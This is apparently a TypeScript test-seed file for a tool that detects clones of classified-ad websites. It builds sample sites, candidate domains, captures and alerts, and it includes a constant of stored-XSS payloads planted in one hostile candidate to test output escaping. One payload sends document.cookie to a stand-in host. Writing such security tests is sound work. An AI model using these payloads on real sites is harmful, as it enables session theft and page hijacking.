/**
 * Review test data: two monitored home-services sites, three candidate clones (one captured from a hostile
 * page full of stored-XSS payloads) and one dismissed look-alike, with captures, artifacts in a real evidence
 * store, contacts, DNS events, alerts and analyst accounts. Fiction phone numbers and .test/.example names only.
 */
import { crc32, deflateSync } from 'node:zlib';
import { createUser, decideAlert, type Executor, upsertAlert } from '../../db/index.ts';
import type { ArtifactRef } from '../../db/schema/index.ts';
import { captures, contacts, crawlRuns, dnsEvents, domains, sites } from '../../db/schema/index.ts';
import { createEvidenceStore } from '../../evidence/index.ts';
import { hashPassword } from '../../review/index.ts';

/** Where the hostile payloads would phone home: no request may ever go there. */
export const PAYLOAD_HOST = 'xss-payload.test';
export const XSS = {
  script: `<script>fetch('http://${PAYLOAD_HOST}/steal?c='+document.cookie)</script>`,
  img: `<img src="http://${PAYLOAD_HOST}/pixel.png" onerror="alert('xss-img')">`,
  svg: `"><svg onload="alert('xss-svg')">`,
  link: `<a href="javascript:alert('xss-link')">voir l'annonce</a>`,
  style: `<style>body{background:url(http://${PAYLOAD_HOST}/css.png)}</style>`,
  /** Clears a terminal and retitles its window when printed raw. */
  ansi: '\u001b[2J\u001b]0;pwned\u0007',
};

export const ANALYST = { name: 'analyste.dupont', password: 'correct horse battery staple' };

export interface SeededReview {
  alerts: { clone: number; mention: number; hostile: number; dismissed: number };
  siteNames: string[];
  evidenceDir: string;
}

export interface SeedOptions {
  evidenceDir: string;
  /** Renders a page's HTML to a PNG (Chromium in the screenshot script); defaults to a drawn placeholder. */
  screenshot?: (html: string) => Promise<Buffer>;
}

const T0 = new Date('2026-10-01T08:00:00Z');
const at = (days: number, hours = 0) => new Date(T0.getTime() + (days * 24 + hours) * 3_600_000);

const ADS = {
  plumbing:
    'Plombier disponible 7j/7 pour fuites, débouchage et remplacement de chauffe-eau. Devis gratuit, intervention rapide sur Lyon et environs. Appelez le 06 39 98 01 23.',
  cleaning:
    'Ménage et repassage à domicile, trois heures minimum, produits fournis. Chèques emploi service acceptés. Contact : 06 39 98 01 45.',
  garden:
    'Jardinier paysagiste : tonte, taille de haies, débroussaillage. Travail soigné, tarifs raisonnables. 01 99 00 12 34.',
  tutoring:
    'Cours de soutien scolaire en maths et physique, collège et lycée, par étudiante en master. 06 39 98 07 77.',
};

function pageHtml(title: string, accent: string, ads: string[]): string {
  const items = ads.map((a) => `<article class="ad"><p>${a}</p></article>`).join('\n');
  return `<!doctype html><html><head><meta charset="utf-8"><title>${title}</title>
<style>body{font-family:sans-serif;margin:0}header{background:${accent};color:#fff;padding:14px 20px;font-size:22px}
.ad{border:1px solid #ccc;margin:14px 20px;padding:10px 14px;border-radius:6px}</style></head>
<body><header>${title}</header><main>${items}</main></body></html>`;
}

function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body) >>> 0);
  return Buffer.concat([len, body, crc]);
}

/** A drawn "page": a header band in the site's colour, grey ad blocks on white (clones look alike). */
export function placeholderPng(accent: string, width = 480, height = 300): Buffer {
  const rgb = [1, 3, 5].map((i) => Number.parseInt(accent.slice(i, i + 2), 16));
  const raw = Buffer.alloc((width * 3 + 1) * height);
  for (let y = 0; y < height; y++) {
    const row = y * (width * 3 + 1);
    for (let x = 0; x < width; x++) {
      let px = [255, 255, 255];
      if (y < 40) px = rgb;
      else if (y > 60 && (y - 60) % 60 < 40 && x > 20 && x < width - 20)
        px = x < 120 ? [210, 214, 220] : [236, 238, 241];
      raw.set(px, row + 1 + x * 3);
    }
  }
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(raw)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

interface DomainSpec {
  hostname: string;
  title: string;
  accent: string;
  ads: string[];
  contacts: [string, string][];
  capturedAt: Date;
  redirectFrom?: string;
}

export async function seedReview(db: Executor, options: SeedOptions): Promise<SeededReview> {
  const store = createEvidenceStore({ dir: options.evidenceDir });
  const [siteA, siteB] = await db
    .insert(sites)
    .values(
      [
        {
          name: 'maison-services',
          status: 'convicted',
          caseRef: 'PJ-2026-017',
          liveState: 'seized',
          liveStateChangedAt: at(-3),
        },
        { name: 'jardins-menage', status: 'suspected', caseRef: 'PJ-2026-042', liveState: 'online' },
      ].map((s) => ({ ...s, status: s.status as 'convicted' | 'suspected', createdAt: at(-30), updatedAt: at(-30) })),
    )
    .returning();

  let runCounter = 0;
  async function addDomain(
    spec: DomainSpec,
    role: 'seed' | 'candidate',
    siteId: number,
    source: 'config' | 'lookalike' | 'mention' | 'redirect',
    sourceDetail: string,
  ) {
    const [d] = await db
      .insert(domains)
      .values({
        hostname: spec.hostname,
        role,
        siteId: role === 'seed' ? siteId : null,
        originSiteId: role === 'candidate' ? siteId : null,
        source,
        sourceDetail,
        dnsState: 'resolves',
        dnsAddresses: ['127.0.0.1'],
        firstSeenAt: at(-2),
        lastSeenAt: spec.capturedAt,
      })
      .returning();
    const runId = `seed-run-${++runCounter}`;
    await db.insert(crawlRuns).values({
      id: runId,
      domainId: d.id,
      siteId: role === 'seed' ? siteId : null,
      mode: 'browser',
      status: 'done',
      startedAt: spec.capturedAt,
      finishedAt: spec.capturedAt,
    });
    await db.insert(dnsEvents).values([
      { domainId: d.id, state: 'nxdomain', addresses: [], observedAt: at(-2) },
      { domainId: d.id, state: 'resolves', addresses: ['127.0.0.1'], observedAt: at(-1) },
    ]);
    const pages = [
      { path: '/', ads: spec.ads, depth: 0 },
      { path: '/annonce/1', ads: spec.ads.slice(0, 1), depth: 1 },
    ];
    for (const page of pages) {
      const url = `http://${spec.hostname}${page.path}`;
      const html = pageHtml(spec.title, spec.accent, page.ads);
      const text = `${spec.title}\n${page.ads.join('\n')}`;
      const headers = { 'content-type': 'text/html; charset=utf-8', server: 'nginx' };
      const put = async (
        kind: ArtifactRef['kind'],
        bytes: Buffer | string,
        mediaType: string,
      ): Promise<ArtifactRef> => {
        const o = await store.put(bytes);
        return { kind, sha256: o.sha256, size: o.size, path: o.path, mediaType };
      };
      const artifacts = [
        await put('html', html, 'text/html'),
        await put('text', text, 'text/plain'),
        await put('headers', JSON.stringify(headers, null, 2), 'application/json'),
        await put(
          'screenshot',
          options.screenshot ? await options.screenshot(html) : placeholderPng(spec.accent),
          'image/png',
        ),
      ];
      const redirect = page.depth === 0 && spec.redirectFrom;
      await db.insert(captures).values({
        runId,
        domainId: d.id,
        requestedUrl: redirect ? `http://${spec.redirectFrom}/` : url,
        finalUrl: url,
        redirectChain: redirect ? [{ url: `http://${spec.redirectFrom}/`, status: 301, location: url }] : [],
        status: 200,
        headers,
        timings: { navigationMs: 120, totalMs: 300 },
        mode: 'browser',
        depth: page.depth,
        title: spec.title,
        htmlSha256: artifacts[0].sha256,
        textSha256: artifacts[1].sha256,
        artifacts,
        outlinks: { internal: [], external: [] },
        capturedAt: new Date(spec.capturedAt.getTime() + page.depth * 60_000),
      });
    }
    for (const [kind, value] of spec.contacts) {
      await db
        .insert(contacts)
        .values({ domainId: d.id, kind, value, firstSeenAt: spec.capturedAt, lastSeenAt: spec.capturedAt });
    }
    return d;
  }

  const phonesA: [string, string][] = [
    ['phone', '+33639980123'],
    ['phone', '+33639980145'],
    ['email', 'contact@maison-services.example'],
  ];
  await addDomain(
    {
      hostname: 'maison-services.test',
      title: 'Maison Services — petites annonces',
      accent: '#2b6cb0',
      ads: [ADS.plumbing, ADS.cleaning, ADS.tutoring],
      contacts: [...phonesA, ['phone', '+33639980777']],
      capturedAt: at(-20),
    },
    'seed',
    siteA.id,
    'config',
    'config site maison-services',
  );
  await addDomain(
    {
      hostname: 'jardins-menage.test',
      title: 'Jardins & Ménage',
      accent: '#2f855a',
      ads: [ADS.garden, ADS.cleaning],
      contacts: [
        ['phone', '+33199001234'],
        ['phone', '+33639980145'],
      ],
      capturedAt: at(-1),
    },
    'seed',
    siteB.id,
    'config',
    'config site jardins-menage',
  );

  const cloneAds = [ADS.plumbing.replace('Lyon', 'Villeurbanne'), ADS.cleaning.replace('trois heures', 'deux heures')];
  const clone = await addDomain(
    {
      hostname: 'maison-services2.test',
      title: 'Maison Services — annonces',
      accent: '#2b6cb0',
      ads: cloneAds,
      contacts: phonesA,
      capturedAt: at(0, 2),
      redirectFrom: 'maison-services.test',
    },
    'candidate',
    siteA.id,
    'redirect',
    'redirect from http://maison-services.test/',
  );
  const moved = await addDomain(
    {
      hostname: 'services-a-domicile.test',
      title: 'Services à domicile',
      accent: '#2b6cb0',
      ads: [ADS.plumbing],
      contacts: [['phone', '+33639980123']],
      capturedAt: at(1, 5),
    },
    'candidate',
    siteA.id,
    'mention',
    'mention on maison-services.test: « notre nouvelle adresse : services-a-domicile.test »',
  );
  const hostileAds = [`${ADS.garden} ${XSS.script}`, `${XSS.img} ${ADS.cleaning} ${XSS.link}`];
  const hostile = await addDomain(
    {
      hostname: 'annonces-pratiques.test',
      title: `Annonces ${XSS.script}${XSS.style}`,
      accent: '#9b2c2c',
      ads: hostileAds,
      contacts: [
        ['phone', '+33199001234'],
        ['telegram', `jardin${XSS.svg}`],
      ],
      capturedAt: at(2),
    },
    'candidate',
    siteB.id,
    'lookalike',
    `tld-swap ${XSS.img}`,
  );
  const decoy = await addDomain(
    {
      hostname: 'menage-express.test',
      title: 'Ménage Express',
      accent: '#6b46c1',
      ads: [ADS.cleaning.replace('Chèques', 'Paiement par chèques')],
      contacts: [['phone', '+33639980145']],
      capturedAt: at(1),
    },
    'candidate',
    siteB.id,
    'lookalike',
    'affix express',
  );

  const ad = (domain: string, path: string, text: string) => ({ id: path, url: `http://${domain}${path}`, text });
  const cloneAlert = await upsertAlert(
    db,
    {
      siteId: siteA.id,
      candidateDomainId: clone.id,
      verdict: 'clone',
      score: 0.93,
      signals: { layout: 0.95, text: 0.9, contacts: 1, pivots: 1 },
      evidence: [
        {
          kind: 'shared-contact',
          contactKind: 'phone',
          values: ['+33639980123', '+33639980145'],
          referenceCount: 3,
          candidateCount: 2,
        },
        {
          kind: 'shared-contact',
          contactKind: 'email',
          values: ['contact@maison-services.example'],
          referenceCount: 1,
          candidateCount: 1,
        },
        {
          kind: 'near-identical-ad',
          distance: 3,
          reference: ad('maison-services.test', '/annonce/1', ADS.plumbing),
          candidate: ad('maison-services2.test', '/annonce/1', cloneAds[0]),
        },
        {
          kind: 'near-identical-ad',
          distance: 4,
          reference: ad('maison-services.test', '/#2', ADS.cleaning),
          candidate: ad('maison-services2.test', '/#2', cloneAds[1]),
        },
        { kind: 'layout', pageType: 'listing', distance: 2 },
        { kind: 'shared-pivot', pivotKind: 'google-analytics', value: 'G-TEST00017' },
      ],
      explanation: [
        '2 phone numbers of maison-services appear on maison-services2.test: +33 6 39 98 01 23, +33 6 39 98 01 45.',
        'The contact e-mail contact@maison-services.example is the same.',
        '2 ads are near-identical (SimHash distance 3 and 4 of 64).',
        'The listing pages share the same layout (distance 2 of 64).',
        'The same Google Analytics id G-TEST00017 is used.',
      ],
    },
    at(0, 3),
  );
  const movedAlert = await upsertAlert(
    db,
    {
      siteId: siteA.id,
      candidateDomainId: moved.id,
      verdict: 'clone',
      score: 0.71,
      signals: { layout: 0.8, text: 0.7, contacts: 0.5, pivots: null },
      evidence: [
        {
          kind: 'shared-contact',
          contactKind: 'phone',
          values: ['+33639980123'],
          referenceCount: 3,
          candidateCount: 1,
        },
        {
          kind: 'near-identical-ad',
          distance: 0,
          reference: ad('maison-services.test', '/annonce/1', ADS.plumbing),
          candidate: ad('services-a-domicile.test', '/annonce/1', ADS.plumbing),
        },
        { kind: 'layout', pageType: 'ad', distance: 5 },
      ],
      explanation: [
        'Announced by the monitored site as its new address.',
        '1 ad is identical.',
        'Phone +33 6 39 98 01 23 is shared.',
      ],
    },
    at(1, 6),
  );
  const hostileAlert = await upsertAlert(
    db,
    {
      siteId: siteB.id,
      candidateDomainId: hostile.id,
      verdict: 'clone',
      score: 0.82,
      signals: { layout: 0.7, text: 0.85, contacts: 0.6, pivots: null },
      evidence: [
        {
          kind: 'shared-contact',
          contactKind: 'phone',
          values: ['+33199001234'],
          referenceCount: 2,
          candidateCount: 2,
        },
        {
          kind: 'shared-contact',
          contactKind: 'telegram',
          values: [`jardin${XSS.svg}`],
          referenceCount: 1,
          candidateCount: 1,
        },
        {
          kind: 'near-identical-ad',
          distance: 5,
          reference: ad('jardins-menage.test', '/', ADS.garden),
          candidate: ad('annonces-pratiques.test', '/', hostileAds[0]),
        },
        { kind: 'shared-pivot', pivotKind: 'payment-link', value: `javascript:alert('xss-pivot')` },
        { kind: `future-kind${XSS.img}`, detail: XSS.script },
      ],
      explanation: [
        `The ad text ${XSS.script} is near-identical.`,
        `Handle jardin${XSS.svg} is shared.`,
        XSS.link,
        `Title ${XSS.ansi}`,
      ],
    },
    at(2, 1),
  );
  const decoyAlert = await upsertAlert(
    db,
    {
      siteId: siteB.id,
      candidateDomainId: decoy.id,
      verdict: 'clone',
      score: 0.61,
      signals: { layout: 0.2, text: 0.8, contacts: 0.4, pivots: null },
      evidence: [
        {
          kind: 'shared-contact',
          contactKind: 'phone',
          values: ['+33639980145'],
          referenceCount: 2,
          candidateCount: 1,
        },
      ],
      explanation: ['1 phone number is shared.', 'One cleaning ad is near-identical.'],
    },
    at(1, 2),
  );
  const ids = [cloneAlert, movedAlert, hostileAlert, decoyAlert].map((r) => {
    if (!r.alert) throw new Error('seed alert was not raised');
    return r.alert.id;
  });
  await decideAlert(
    db,
    ids[3],
    {
      status: 'dismissed',
      reviewer: 'analyste.martin',
      note: 'Competitor sharing one advertiser, different operator.',
    },
    at(2, 4),
  );
  return {
    alerts: { clone: ids[0], mention: ids[1], hostile: ids[2], dismissed: ids[3] },
    siteNames: ['jardins-menage', 'maison-services'],
    evidenceDir: store.dir,
  };
}

/** An analyst account (for log-in tests). */
export async function seedAnalyst(db: Executor, account = ANALYST): Promise<void> {
  await createUser(db, { name: account.name, passwordHash: await hashPassword(account.password), by: 'test-setup' });
}
